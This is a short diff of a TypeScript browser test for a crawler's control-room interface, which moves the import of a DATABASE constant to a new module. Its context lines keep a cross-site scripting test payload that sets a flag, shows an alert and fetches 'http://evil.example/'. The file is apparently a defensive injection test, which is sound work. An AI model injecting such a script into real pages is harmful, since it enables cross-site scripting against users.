@@ -5,7 +5,6 @@ import type { Browser, Page } from 'playwright-core';
 import { crawl } from '../../src/app/crawl/crawl.js';
 import { openControlRoom, type OpenControlRoom } from '../../src/control-room/serve-control-room.js';
 import { openCrawlDatabase } from '../../src/crawl/store/crawl-database.js';
-import { DATABASE } from '../../src/crawl/store/crawl-store.js';
 import { pageTextFile, readEvents } from '../../src/crawl/store/result-folder.js';
 import { replaceFile } from '../../src/support/files/replace-file.js';
 import { createWebFetcher } from '../../src/virtual-web/fetcher.js';
@@ -16,6 +15,7 @@ import { manualClock } from '../support/manual-clock.js';
 import { SMALL_SEED } from '../support/small-corpus.js';
 import { startBrowser, whyNoBrowser } from './browser.js';
 import { describeUnless } from './data.js';
+import { DATABASE } from '../../src/support/crawl-folder.js';
 
 const SCRIPT = 'window.hacked=1;alert(1);fetch("http://evil.example/")';
 /** What runs where a text is read as markup, as an address, or as a part of a script. */
